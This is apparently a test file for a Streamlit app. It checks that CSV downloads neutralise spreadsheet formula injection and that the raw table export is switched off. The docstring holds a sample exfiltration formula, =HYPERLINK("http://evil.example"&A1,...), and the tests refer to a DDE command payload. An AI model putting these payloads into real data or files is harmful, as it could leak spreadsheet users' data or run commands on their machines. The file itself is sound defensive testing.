"""Every table that leaves the app goes through the one formula-neutralising writer (exports.to_csv).

Replays the probe in a real Chromium: a commitment titled ``=HYPERLINK("http://evil.example"&A1,"click")``
on the public Commitments page. The table toolbar's own "Download as CSV" (which writes cells raw) is not
offered; the app's "Download CSV" button gives a file whose cell starts with the neutralising apostrophe.
Plus: no page shows a table except through ``ui.session.show_table``, and the writer neutralises every
formula prefix.
"""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from hostile_records import DDE_TITLE, FORMULA_TITLE, Hostile, build, serve
from playwright.sync_api import Page, expect

from conftest import ROOT
from partners.presentation import exports

TIMEOUT = 60_000


@pytest.fixture(scope="module")
def hostile(demo_db_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    return build(demo_db_path, tmp_path_factory.mktemp("hostile") / "hostile.duckdb")


@pytest.fixture(scope="module")
def public_app(hostile: Hostile, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The public's view (sign-in configured, nobody signed in) of the hostile database."""
    with serve(hostile.path, tmp_path_factory.mktemp("public-app"), public=True) as url:
        yield url


def _open_commitments(page: Page, url: str, search: str) -> None:
    page.goto(f"{url}/commitments", wait_until="domcontentloaded")
    box = page.get_by_label("Search titles and descriptions")
    box.wait_for(timeout=TIMEOUT)
    box.fill(search)
    box.press("Enter")
    expect(page.get_by_text("1 commitment matches")).to_be_visible(timeout=TIMEOUT)
    # the run that filtered has finished: a button clicked during a run may belong to the run before
    page.locator('[data-testid="stStatusWidget"]').wait_for(state="hidden", timeout=TIMEOUT)


@pytest.mark.browser
def test_the_table_toolbar_offers_no_raw_csv_download_and_the_apps_own_is_neutralised(
    public_app: str, page: Page, tmp_path: Path
) -> None:
    _open_commitments(page, public_app, "HYPERLINK")
    grid = page.locator('[data-testid="stDataFrame"]').first
    grid.hover()
    search = page.locator("[data-testid='stElementToolbarButton'] button[aria-label^='Search']").first
    expect(search).to_be_visible(timeout=TIMEOUT)  # the toolbar is there...
    assert page.locator("button[aria-label^='Download as CSV']").count() == 0  # ...without its download

    with page.expect_download(timeout=TIMEOUT) as caught:
        page.get_by_role("button", name="Download CSV").click()
    saved = tmp_path / "commitments.csv"
    caught.value.save_as(saved)
    rows = list(csv.DictReader(io.StringIO(saved.read_text(encoding="utf-8-sig"))))
    assert [r["Commitment"] for r in rows] == ["'" + FORMULA_TITLE]
    assert rows[0]["Link"].startswith("http") and "commitment?id=" in rows[0]["Link"]


@pytest.mark.browser
def test_a_dde_payload_title_downloads_as_text(public_app: str, page: Page, tmp_path: Path) -> None:
    _open_commitments(page, public_app, "cmd|")
    with page.expect_download(timeout=TIMEOUT) as caught:
        page.get_by_role("button", name="Download CSV").click()
    saved = tmp_path / "dde.csv"
    caught.value.save_as(saved)
    rows = list(csv.DictReader(io.StringIO(saved.read_text(encoding="utf-8-sig"))))
    assert [r["Commitment"] for r in rows] == ["'" + DDE_TITLE]


def test_the_app_switches_the_builtin_table_export_off() -> None:
    """Both ways: the config file, and the entry point (for a server started without that file)."""
    config = (ROOT / ".streamlit" / "config.toml").read_text()
    assert "disableDataExport = true" in config
    assert "no_builtin_table_export()" in (ROOT / "streamlit_app.py").read_text()


def test_no_page_shows_a_table_except_through_show_table() -> None:
    """``st.dataframe``, ``st.data_editor`` and ``st.table`` are called in ``ui/session.py`` only (in
    ``show_table``), so every table gets the same download rules."""
    offenders = []
    for path in sorted((ROOT / "src" / "partners").rglob("*.py")):
        if path == ROOT / "src" / "partners" / "ui" / "session.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
                continue
            name = node.func.attr
            on_st = isinstance(node.func.value, ast.Name) and node.func.value.id == "st"
            if name in ("dataframe", "data_editor") or (name == "table" and on_st):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    for entry in (ROOT / "streamlit_app.py",):
        assert "st.dataframe(" not in entry.read_text()
    assert offenders == [], f"tables shown without ui.session.show_table: {offenders}"


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_the_csv_writer_neutralises_every_formula_prefix(prefix: str) -> None:
    frame = pd.DataFrame({"Title": [f"{prefix}1+1"], "Count": [-5]})
    rows = list(csv.reader(io.StringIO(exports.to_csv(frame).decode(exports.CSV_ENCODING), newline="")))
    assert rows[1][0] == f"'{prefix}1+1"
    assert rows[1][1] == "-5"  # a number stays a number
